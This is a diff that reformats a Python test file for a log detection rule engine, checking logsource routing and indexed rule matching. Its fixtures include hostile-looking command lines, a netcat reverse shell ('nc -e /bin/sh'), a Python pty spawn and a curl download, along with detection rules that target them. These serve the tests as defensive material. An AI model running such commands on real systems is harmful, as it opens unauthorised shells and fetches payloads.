@@ -13,24 +13,42 @@ from tests.detection.helpers import NET, PROC, T0, engine_for, event, rule_doc, 
 
 
 def test_rule_only_sees_its_logsource(tmp_path: Path) -> None:
-    engine = engine_for(tmp_path, rule_doc({"sel": {"Image|endswith": "/curl"}, "condition": "sel"}))
+    engine = engine_for(
+        tmp_path, rule_doc({"sel": {"Image|endswith": "/curl"}, "condition": "sel"})
+    )
     assert not engine.process(event(T0, NET, **{"process.executable": "/usr/bin/curl"}))
-    assert not engine.process(event(T0, LogSource("vedette", "process_creation"),
-                                    **{"process.executable": "/usr/bin/curl"}))
+    assert not engine.process(
+        event(
+            T0, LogSource("vedette", "process_creation"), **{"process.executable": "/usr/bin/curl"}
+        )
+    )
     assert engine.process(event(T0, PROC, **{"process.executable": "/usr/bin/curl"}))
 
 
 def test_product_only_rule_sees_every_category_and_service(tmp_path: Path) -> None:
-    doc = rule_doc({"keywords": ["segfault"], "condition": "keywords"}, {"product": "linux"},
-                   vedette={"update_interval": 0})
+    doc = rule_doc(
+        {"keywords": ["segfault"], "condition": "keywords"},
+        {"product": "linux"},
+        vedette={"update_interval": 0},
+    )
     engine = engine_for(tmp_path, doc)
     assert engine.process(event(T0, LogSource("linux", None, "syslog"), message="x segfault"))
     assert engine.process(event(T0, LogSource("linux"), message="segfault at 0"))
     assert not engine.process(event(T0, LogSource("vedette", None, "syslog"), message="segfault"))
 
 
-IMAGES = ["/usr/bin/curl", "/bin/sh", "/usr/bin/wget", "/tmp/x", "/usr/bin/python3",
-          "/usr/sbin/sshd", "/usr/bin/CURL", "curl", "/a/b/nc", "/usr/bin/id"]
+IMAGES = [
+    "/usr/bin/curl",
+    "/bin/sh",
+    "/usr/bin/wget",
+    "/tmp/x",
+    "/usr/bin/python3",
+    "/usr/sbin/sshd",
+    "/usr/bin/CURL",
+    "curl",
+    "/a/b/nc",
+    "/usr/bin/id",
+]
 USERS = ["root", "www-data", "alice", None]
 CMDS = ["curl -o /tmp/x http://x", "sh -c id", "python3 -c 'import pty'", "nc -e /bin/sh x", ""]
 
@@ -40,11 +58,21 @@ def test_indexed_routing_agrees_with_evaluating_every_rule(tmp_path: Path) -> No
         rule_doc({"sel": {"Image|endswith": ["/curl", "/wget"]}, "condition": "sel"}),
         rule_doc({"sel": {"Image": "/bin/sh", "User": "root"}, "condition": "sel"}),
         rule_doc({"sel": {"User": ["alice", "bob"]}, "condition": "sel"}),
-        rule_doc({"a": {"Image|endswith": "/nc"}, "b": {"CommandLine|contains": "-e"},
-                  "condition": "a and b"}),
+        rule_doc(
+            {
+                "a": {"Image|endswith": "/nc"},
+                "b": {"CommandLine|contains": "-e"},
+                "condition": "a and b",
+            }
+        ),
         rule_doc({"a": {"Image|endswith": "/id"}, "b": {"User": "root"}, "condition": "a or b"}),
-        rule_doc({"a": {"Image|endswith": "/id"}, "b": {"Image|endswith": "python3"},
-                  "condition": "a or b"}),
+        rule_doc(
+            {
+                "a": {"Image|endswith": "/id"},
+                "b": {"Image|endswith": "python3"},
+                "condition": "a or b",
+            }
+        ),
         rule_doc({"a": {"Image|endswith": "/sshd"}, "condition": "not a"}),
         rule_doc({"sel": {"CommandLine|contains": "pty"}, "condition": "sel"}),
     ]
@@ -57,7 +85,10 @@ def test_indexed_routing_agrees_with_evaluating_every_rule(tmp_path: Path) -> No
     engine = Engine(report.ruleset)
     rnd = random.Random(1)
     for i in range(400):
-        fields = {"process.executable": rnd.choice(IMAGES), "process.command_line": rnd.choice(CMDS)}
+        fields = {
+            "process.executable": rnd.choice(IMAGES),
+            "process.command_line": rnd.choice(CMDS),
+        }
         user = rnd.choice(USERS)
         if user is not None:
             fields["user.name"] = user
